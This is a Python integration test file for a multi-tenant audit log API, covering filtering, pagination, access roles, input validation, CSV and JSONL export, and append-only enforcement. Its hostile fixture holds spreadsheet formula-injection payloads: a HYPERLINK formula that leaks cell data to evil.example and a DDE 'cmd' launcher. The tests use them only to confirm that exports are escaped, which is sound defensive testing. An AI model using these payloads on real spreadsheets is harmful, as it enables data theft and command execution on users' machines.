"""The audit log on a real server, on two tenants: reading it (filters, keyset pages), exporting
it (CSV and JSON Lines, streamed, safe to open in a spreadsheet), the role guards, bad input, and
the database refusing to rewrite it.

Events with known times are written straight into a tenant's schema (``record_event`` in a
tenant session, as the services write them); their actions start with ``test.`` so the filters
can single them out from the sign-ups and sign-ins of the setup.
"""

from __future__ import annotations

import csv
import io
import json
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest
from psycopg.errors import InsufficientPrivilege
from sqlalchemy import func, insert, select, text
from sqlalchemy.exc import DBAPIError

from tenants.schemas import TenantView
from tests.integration.accounts_support import PASSWORD, ClientFor, csrf_headers, sign_up
from whitelabel.accounts.audit_service import EXPORT_BATCH
from whitelabel.runtime import Runtime
from whitelabel.tenant_data import AuditEvent

AUDIT = "/api/v1/admin/audit"
T0 = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)


@dataclass
class Site:
    """A tenant with a signed-in owner, admin and member (one client, one cookie jar each)."""

    tenant: TenantView
    owner: httpx.Client
    admin: httpx.Client
    member: httpx.Client
    anonymous: httpx.Client
    admin_id: str


def _site(tenant_client: ClientFor, tenant: TenantView) -> Site:
    owner, admin, member = (tenant_client(tenant) for _ in range(3))
    sign_up(owner, "owner@example.org")
    admin_id = sign_up(admin, "admin@example.org")
    sign_up(member, "member@example.org")
    promoted = owner.patch(
        f"/api/v1/admin/users/{admin_id}", json={"role": "admin"}, headers=csrf_headers(owner)
    )
    assert promoted.status_code == 200, promoted.text
    relogin = admin.post(
        "/api/v1/auth/login",
        json={"email": "admin@example.org", "password": PASSWORD},
        headers=csrf_headers(admin),  # its stale session cookie still needs its token
    )
    assert relogin.status_code == 200, relogin.text
    return Site(tenant, owner, admin, member, tenant_client(tenant), admin_id)


@pytest.fixture
def sites(
    tenant_pair: tuple[TenantView, TenantView], tenant_client: ClientFor
) -> tuple[Site, Site]:
    first, second = tenant_pair
    return _site(tenant_client, first), _site(tenant_client, second)


def _write(runtime: Runtime, tenant: TenantView, rows: list[dict[str, Any]]) -> None:
    """Audit rows with the given fields (``at`` included), written in one transaction."""
    with runtime.db.tenant_sync_session(tenant.context()) as session:
        session.execute(
            insert(AuditEvent),
            [{"id": uuid.uuid4(), "ip": None, "target": None, "detail": {}, **row} for row in rows],
        )
        session.commit()


def _count(runtime: Runtime, tenant: TenantView, action: str | None = None) -> int:
    with runtime.db.tenant_sync_session(tenant.context()) as session:
        stmt = select(func.count()).select_from(AuditEvent)
        if action is not None:
            stmt = stmt.where(AuditEvent.action == action)
        return int(session.scalar(stmt) or 0)


# Seven events over four days; ``at`` ascending, so the API returns them in reverse.
EVENTS: list[dict[str, Any]] = [
    {"action": "test.alpha", "actor": "u1", "target": "t1", "at": T0},
    {"action": "test.alpha", "actor": "u2", "target": "t2", "at": T0 + timedelta(days=1)},
    {"action": "test.beta_x", "actor": "u1", "target": "t1", "at": T0 + timedelta(days=1)},
    {"action": "test.beta", "actor": "u2", "target": "t3", "at": T0 + timedelta(days=2)},
    {"action": "test.alpha", "actor": "u1", "target": "t3", "at": T0 + timedelta(days=2)},
    {"action": "testxalpha", "actor": "u3", "target": "t1", "at": T0 + timedelta(days=3)},
    {"action": "test.gamma", "actor": "u3", "target": None, "at": T0 + timedelta(days=3)},
]


def _expected(**match: Any) -> list[tuple[str, str, datetime]]:
    """(action, actor, at) of the matching EVENTS, newest first (ties: any order)."""
    rows = [
        (e["action"], e["actor"], e["at"])
        for e in EVENTS
        if all(pred(e) for pred in match.values())
    ]
    return sorted(rows, key=lambda r: r[2], reverse=True)


def _page(client: httpx.Client, **params: str) -> dict[str, Any]:
    response = client.get(AUDIT, params=params)
    assert response.status_code == 200, response.text
    data: dict[str, Any] = response.json()
    return data


def _all_pages(
    client: httpx.Client, after: str | None = None, **params: str
) -> Iterator[dict[str, Any]]:
    while True:
        page = _page(client, **params, **({"after": after} if after else {}))
        yield from page["items"]
        after = page["next"]
        if after is None:
            return


def _rows(items: list[dict[str, Any]]) -> list[tuple[str, str, datetime]]:
    return [(i["action"], i["actor"], datetime.fromisoformat(i["at"])) for i in items]


@pytest.mark.parametrize(
    ("params", "match"),
    [
        ({"action_prefix": "test."}, {"p": lambda e: e["action"].startswith("test.")}),
        ({"action": "test.alpha"}, {"a": lambda e: e["action"] == "test.alpha"}),
        # '_' is a plain character in a prefix, not a LIKE wildcard
        ({"action_prefix": "test.beta_"}, {"a": lambda e: e["action"] == "test.beta_x"}),
        (
            {"action_prefix": "test.", "actor": "u1"},
            {"p": lambda e: e["action"].startswith("test."), "u": lambda e: e["actor"] == "u1"},
        ),
        ({"action_prefix": "test", "target": "t1"}, {"t": lambda e: e["target"] == "t1"}),
        (
            # since inclusive, until exclusive
            {
                "action_prefix": "test.",
                "since": (T0 + timedelta(days=1)).isoformat(),
                "until": (T0 + timedelta(days=2)).isoformat(),
            },
            {
                "p": lambda e: e["action"].startswith("test."),
                "d": lambda e: e["at"] == T0 + timedelta(days=1),
            },
        ),
        (
            # a date alone is midnight UTC; a time without an offset is UTC too
            {"action_prefix": "test", "since": "2026-03-03", "until": "2026-03-04T12:00:01"},
            {"d": lambda e: e["at"] in (T0 + timedelta(days=2), T0 + timedelta(days=3))},
        ),
        (
            # another offset names the same instant: 13:00+01:00 is 12:00Z (inclusive)
            {"action_prefix": "test.", "since": "2026-03-04T13:00:00+01:00"},
            {
                "p": lambda e: e["action"].startswith("test."),
                "d": lambda e: e["at"] >= T0 + timedelta(days=3),
            },
        ),
        ({"actor": "nobody-at-all"}, {"none": lambda e: False}),
    ],
)
def test_filters(
    whitelabel_runtime: Runtime,
    sites: tuple[Site, Site],
    params: dict[str, str],
    match: dict[str, Any],
) -> None:
    first, second = sites
    _write(whitelabel_runtime, first.tenant, EVENTS)
    for client in (first.admin, first.owner):
        got = _rows(list(_all_pages(client, **params, limit="2")))
        expected = _expected(**match)
        assert sorted(got, key=lambda r: (r[2], r[0], r[1])) == sorted(
            expected, key=lambda r: (r[2], r[0], r[1])
        )
        assert [r[2] for r in got] == sorted((r[2] for r in got), reverse=True)
    # the other tenant's admins see none of it
    assert list(_all_pages(second.admin, **params)) == []


def test_keyset_pages_do_not_shift_and_carry_everything(
    whitelabel_runtime: Runtime, sites: tuple[Site, Site]
) -> None:
    first, _ = sites
    _write(whitelabel_runtime, first.tenant, EVENTS)
    full = _page(first.admin, action_prefix="test", limit="500")
    assert full["next"] is None and len(full["items"]) == len(EVENTS)
    page1 = _page(first.admin, action_prefix="test", limit="3")
    assert [i["id"] for i in page1["items"]] == [i["id"] for i in full["items"][:3]]
    # a newer event and one at the very same instant as the cursor row do not shift what follows
    cursor_at = datetime.fromisoformat(page1["items"][-1]["at"])
    _write(
        whitelabel_runtime,
        first.tenant,
        [
            {"action": "test.late", "actor": "u9", "at": datetime.now(UTC)},
            {"action": "test.same", "actor": "u9", "at": cursor_at},
        ],
    )
    rest = list(_all_pages(first.admin, action_prefix="test", limit="3", after=page1["next"]))
    seen = [i["id"] for i in page1["items"]] + [i["id"] for i in rest if i["actor"] != "u9"]
    assert seen == [i["id"] for i in full["items"]]
    # the same-instant row is ordered by id against the cursor row: included after it or not at
    # all, never twice
    assert len({i["id"] for i in rest}) == len(rest)
    # an item is {"id", "at", "action", "actor", "target", "ip", "detail"}
    assert set(full["items"][0]) == {"id", "at", "action", "actor", "target", "ip", "detail"}


def test_the_setup_is_in_the_log(sites: tuple[Site, Site]) -> None:
    first, second = sites
    actions = [(i["action"], i["target"]) for i in _all_pages(first.owner)]
    assert ("user.signup", "member@example.org") in actions
    assert ("user.role_changed", first.admin_id) in actions
    other = {(i["action"], i["target"]) for i in _all_pages(second.owner)}
    assert ("user.role_changed", first.admin_id) not in other
    assert ("user.role_changed", second.admin_id) in other


@pytest.mark.parametrize("fmt", ["json", "csv", "jsonl"])
def test_role_guards(sites: tuple[Site, Site], fmt: str) -> None:
    first, second = sites
    anonymous = first.anonymous.get(AUDIT, params={"format": fmt})
    assert (anonymous.status_code, anonymous.json()["code"]) == (401, "not_authenticated")
    member = first.member.get(AUDIT, params={"format": fmt})
    assert (member.status_code, member.json()["code"]) == (403, "forbidden")
    # an admin's cookie of one tenant means nothing on the other's host
    cookie = {"cookie": f"wl_session={first.admin.cookies['wl_session']}"}
    second.anonymous.cookies.clear()
    crossed = second.anonymous.get(AUDIT, params={"format": fmt}, headers=cookie)
    assert (crossed.status_code, crossed.json()["code"]) == (401, "not_authenticated")
    assert first.admin.get(AUDIT, params={"format": fmt}).status_code == 200


@pytest.mark.parametrize(
    ("params", "code"),
    [
        ({"limit": "0"}, "invalid_limit"),
        ({"limit": "501"}, "invalid_limit"),
        ({"limit": "-1"}, "invalid_limit"),
        ({"limit": "ten"}, "invalid_limit"),
        ({"limit": "²"}, "invalid_limit"),
        ({"limit": "9" * 50}, "invalid_limit"),
        ({"after": "not a cursor"}, "invalid_cursor"),
        ({"after": "WzEsMl0"}, "invalid_cursor"),  # [1,2]
        ({"after": "WyIyMDI2LTAzLTAxIiwieCJd"}, "invalid_cursor"),  # ["2026-03-01","x"]
        ({"after": "A" * 300}, "invalid_cursor"),
        ({"since": "yesterday"}, "invalid_timestamp"),
        ({"since": "2026-13-01"}, "invalid_timestamp"),
        ({"until": "2026-03-01T25:00:00Z"}, "invalid_timestamp"),
        ({"since": ""}, "invalid_timestamp"),
        ({"since": "\uff12\uff10\uff12\uff16-03-01"}, "invalid_timestamp"),  # full-width digits
        ({"until": "2026-03-01T00:00:00Z" + "0" * 100}, "invalid_timestamp"),
        ({"since": "2026-03-02", "until": "2026-03-01"}, "invalid_range"),
        ({"since": "2026-03-01", "until": "2026-03-01T00:00:00+00:00"}, "invalid_range"),
        ({"action": "USER.LOGIN"}, "invalid_action"),
        ({"action": "user.%"}, "invalid_action"),
        ({"action_prefix": "user login"}, "invalid_action"),
        ({"action": "a" * 101}, "invalid_action"),
        ({"action": ""}, "invalid_action"),
        ({"actor": ""}, "invalid_actor"),
        ({"actor": "x" * 321}, "invalid_actor"),
        ({"actor": "admin\x00"}, "invalid_actor"),
        ({"target": "line\nbreak"}, "invalid_target"),
        ({"format": "xml"}, "invalid_format"),
        ({"format": "CSV"}, "invalid_format"),
        ({"format": "csv", "since": "soon"}, "invalid_timestamp"),
    ],
)
def test_bad_input(
    whitelabel_runtime: Runtime, sites: tuple[Site, Site], params: dict[str, str], code: str
) -> None:
    first, _ = sites
    before = _count(whitelabel_runtime, first.tenant)
    response = first.admin.get(AUDIT, params=params)
    assert response.status_code == 422, response.text
    body = response.json()
    assert body["code"] == code
    assert set(body) == {"code", "message", "detail"}
    assert _count(whitelabel_runtime, first.tenant) == before  # no audit.exported either


HOSTILE: list[dict[str, Any]] = [
    {
        "action": "test.hostile",
        "actor": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "target": "+cmd|' /C calc'!A0",
        "ip": "@1",
        "detail": {"note": "-2+3", "quote": 'say "hi", then\nleave'},
        "at": T0,
    },
    {
        "action": "test.hostile",
        "actor": "\tTAB",
        "target": "\rCR",
        "ip": None,
        "detail": {"k": "=1"},
        "at": T0 + timedelta(seconds=1),
    },
    {
        "action": "test.hostile",
        "actor": "plain, with comma",
        "target": "Zoë ünïcode",
        "ip": "2001:db8::1",
        "detail": {},
        "at": T0 + timedelta(seconds=2),
    },
]


def test_csv_export_is_complete_and_spreadsheet_safe(
    whitelabel_runtime: Runtime, sites: tuple[Site, Site]
) -> None:
    first, second = sites
    _write(whitelabel_runtime, first.tenant, HOSTILE)
    response = first.admin.get(AUDIT, params={"format": "csv", "action": "test.hostile"})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    today = datetime.now(UTC).strftime("%Y%m%d")
    assert response.headers["content-disposition"] == (
        f'attachment; filename="audit-{first.tenant.slug}-{today}.csv"'
    )
    assert response.headers["cache-control"] == "no-store"
    assert "content-length" not in response.headers  # streamed
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[0] == ["at", "action", "actor", "target", "ip", "detail", "id"]
    body = rows[1:]
    assert len(body) == 3
    newest, middle, oldest = body
    assert newest[2:5] == ["plain, with comma", "Zoë ünïcode", "2001:db8::1"]
    assert middle[2:4] == ["'\tTAB", "'\rCR"]
    assert oldest[2] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert oldest[3] == "'+cmd|' /C calc'!A0"
    assert oldest[4] == "'@1"
    assert json.loads(oldest[5]) == {"note": "-2+3", "quote": 'say "hi", then\nleave'}
    for row in body:
        assert datetime.fromisoformat(row[0]) >= T0
        uuid.UUID(row[6])
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    # the export is audited, with its filter; the other tenant has no such record
    exported = _page(first.owner, action="audit.exported")["items"]
    assert [(e["actor"], e["detail"]) for e in exported] == [
        (first.admin_id, {"format": "csv", "filter": {"action": "test.hostile"}})
    ]
    assert _count(whitelabel_runtime, second.tenant, "audit.exported") == 0


def test_export_streams_every_row_in_order(
    whitelabel_runtime: Runtime, sites: tuple[Site, Site]
) -> None:
    first, second = sites
    total = 2 * EXPORT_BATCH + 7  # three batches
    _write(
        whitelabel_runtime,
        first.tenant,
        [
            {"action": "test.bulk", "actor": f"u{n}", "at": T0 + timedelta(minutes=n // 3)}
            for n in range(total)
        ],
    )
    _write(whitelabel_runtime, second.tenant, [{"action": "test.bulk", "actor": "x", "at": T0}])
    csv_rows = list(
        csv.DictReader(
            io.StringIO(
                first.owner.get(AUDIT, params={"format": "csv", "action": "test.bulk"}).text
            )
        )
    )
    lines = first.owner.get(AUDIT, params={"format": "jsonl", "action": "test.bulk"})
    assert lines.headers["content-type"] == "application/x-ndjson"
    assert lines.headers["content-disposition"].endswith('.jsonl"')
    events = [json.loads(line) for line in lines.text.splitlines()]
    paged = list(_all_pages(first.owner, action="test.bulk", limit="500"))
    assert len(csv_rows) == len(events) == len(paged) == total
    assert [r["id"] for r in csv_rows] == [e["id"] for e in events] == [p["id"] for p in paged]
    assert len({e["id"] for e in events}) == total
    ats = [datetime.fromisoformat(e["at"]) for e in events]
    assert ats == sorted(ats, reverse=True)
    assert {e["actor"] for e in events} == {f"u{n}" for n in range(total)}
    for line, item in ((events[0], paged[0]), (events[-1], paged[-1])):
        assert {**line, "at": None} == {**item, "at": None}
        assert datetime.fromisoformat(line["at"]) == datetime.fromisoformat(item["at"])


def test_an_empty_export_has_only_the_header(sites: tuple[Site, Site]) -> None:
    first, _ = sites
    response = first.admin.get(AUDIT, params={"format": "csv", "actor": "nobody"})
    assert response.text == "at,action,actor,target,ip,detail,id\r\n"
    assert first.admin.get(AUDIT, params={"format": "jsonl", "actor": "nobody"}).text == ""


def _schema_sql(runtime: Runtime, tenant: TenantView, *statements: str) -> None:
    """Run ``statements`` in one transaction in the tenant's schema (rolled back at the end)."""
    with runtime.db.tenant_sync_session(tenant.context()) as session:
        for statement in statements:
            session.execute(text(statement))
        session.rollback()


@pytest.mark.parametrize(
    "statement",
    [
        "UPDATE audit_log SET actor = 'someone else'",
        "DELETE FROM audit_log",
        "TRUNCATE audit_log",
        # the switch is for UPDATE and DELETE only
        "SET LOCAL whitelabel.audit_redaction = 'on'; TRUNCATE audit_log",
        # any other value of the switch is off
        "SET LOCAL whitelabel.audit_redaction = 'yes'; DELETE FROM audit_log",
    ],
)
def test_the_database_refuses_to_rewrite_the_log(
    whitelabel_runtime: Runtime, sites: tuple[Site, Site], statement: str
) -> None:
    first, _ = sites
    before = _count(whitelabel_runtime, first.tenant)
    with pytest.raises(DBAPIError, match="audit_log is append-only") as caught:
        _schema_sql(whitelabel_runtime, first.tenant, *statement.split("; "))
    assert isinstance(caught.value.orig, InsufficientPrivilege)
    assert _count(whitelabel_runtime, first.tenant) == before


def test_the_redaction_switch_is_transaction_local(
    whitelabel_runtime: Runtime, sites: tuple[Site, Site]
) -> None:
    first, _ = sites
    with whitelabel_runtime.db.tenant_sync_session(first.tenant.context()) as session:
        session.execute(text("SET LOCAL whitelabel.audit_redaction = 'on'"))
        changed = session.execute(text("UPDATE audit_log SET ip = NULL RETURNING id")).all()
        assert changed  # the setup's sign-ups
        session.commit()
        # the next transaction on the same session starts with the switch off
        with pytest.raises(DBAPIError, match="append-only"):
            session.execute(text("UPDATE audit_log SET ip = NULL"))
        session.rollback()
